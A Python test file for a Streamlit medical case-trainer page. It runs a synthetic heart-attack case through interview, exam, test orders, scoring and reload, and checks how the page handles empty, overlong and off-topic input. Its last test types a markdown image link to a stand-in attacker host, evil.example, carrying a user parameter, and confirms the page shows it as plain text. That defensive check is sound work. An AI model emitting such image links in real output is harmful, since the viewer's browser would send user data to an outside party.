"""AppTest: start a case, ask, examine, order, answer, see the score; a reload keeps the case; bad input."""

from __future__ import annotations

from pathlib import Path

from streamlit.testing.v1 import AppTest

PAGE = str(Path(__file__).resolve().parents[2] / "pages" / "case_trainer.py")


def _chat(at):
    """Each turn as read: the student's typed text (st.text) and the patient's reply (escaped markdown)."""
    out = []
    for m in at.chat_message:
        if m.text:
            out.append(m.text[0].value)
        elif m.markdown:
            out.append(m.markdown[0].value.replace("\\", ""))
    return out


def _ok(at) -> bool:
    """No exception and no error message on the page (what the person sees)."""
    assert not at.error, [e.value for e in at.error]
    return not at.exception


def _start(at, seed=7, condition="myocardial_infarction"):
    at.number_input(key="case_seed").set_value(seed)
    at.selectbox(key="case_f_condition").set_value(condition)
    at.button(key="case_start").click().run()
    assert _ok(at)


def test_full_case_to_score_and_reload(settings):
    at = AppTest.from_file(PAGE, default_timeout=120).run()
    assert _ok(at)
    assert any("synthetic" in i.value for i in at.info)
    _start(at)
    assert _chat(at)[0].startswith("I'm here because")
    at.chat_input(key="case_input").set_value("Do you have any chest pain?").run()
    assert _ok(at)
    assert _chat(at)[-2:] == ["Do you have any chest pain?", "Yes, chest pain."]
    at.button(key="case_ask_pick").click().run()  # the picker's default question
    assert _ok(at) and len(_chat(at)) == 5
    at.button(key="case_exam").click().run()
    assert any(m.label == "Heart rate /min" for m in at.metric)
    at.multiselect(key="case_tests").set_value(["ecg", "troponin"]).run()
    at.button(key="case_order").click().run()
    assert _ok(at)
    assert any("High-sensitivity troponin" in m.value for m in at.markdown)
    ws = at.query_params["ws"]

    # a reload (new session, same workspace in the URL) gets the case back, mid-interview
    at2 = AppTest.from_file(PAGE, default_timeout=120)
    at2.query_params["ws"] = ws if isinstance(ws, str) else ws[0]
    at2.run()
    assert _ok(at2)
    assert _chat(at2) == _chat(at)
    assert {m.label: m.value for m in at2.metric}["Tests ordered"] == "2"

    at2.selectbox(key="case_dx").set_value("myocardial_infarction")
    at2.selectbox(key="case_level").set_value("emergency")
    at2.get("form_submit_button")[0].click().run()
    assert _ok(at2)
    metrics = {m.label: m.value for m in at2.metric}
    assert metrics["Diagnosis"] == "Heart attack (acute coronary syndrome)"
    total = int(metrics["Total"].split("/")[0])
    assert 50 <= total <= 100
    assert at2.get("plotly_chart")
    at2.button(key="case_new").click().run()
    assert _ok(at2)
    assert not at2.get("plotly_chart")


def test_bad_input_gets_a_message_not_a_traceback(settings):
    at = AppTest.from_file(PAGE, default_timeout=120).run()
    _start(at, seed=3, condition="pneumonia")
    at.chat_input(key="case_input").set_value("   ").run()
    assert _ok(at) and any("Type a question" in w.value for w in at.warning)
    at.chat_input(key="case_input").set_value("tell me " + "blah " * 1500).run()
    assert _ok(at)
    assert any("long" in c.value for c in at.caption)
    at.chat_input(key="case_input").set_value("What is the capital of France?").run()
    assert "not sure what you mean" in _chat(at)[-1]
    at.get("form_submit_button")[0].click().run()  # nothing chosen
    assert _ok(at) and any("Choose a leading diagnosis" in w.value for w in at.warning)


def test_typed_markdown_is_shown_as_text(settings):
    # A markdown image in a rendered message is fetched by the viewer's browser (tracking, exfiltration).
    at = AppTest.from_file(PAGE, default_timeout=120).run()
    _start(at, seed=3, condition="pneumonia")
    typed = "Do you have a cough? ![x](http://evil.example/t.png?u=student)"
    at.chat_input(key="case_input").set_value(typed).run()
    assert _ok(at)
    assert typed in [t.value for m in at.chat_message for t in m.text]
    assert not any("](http" in md.value for m in at.chat_message for md in m.markdown)
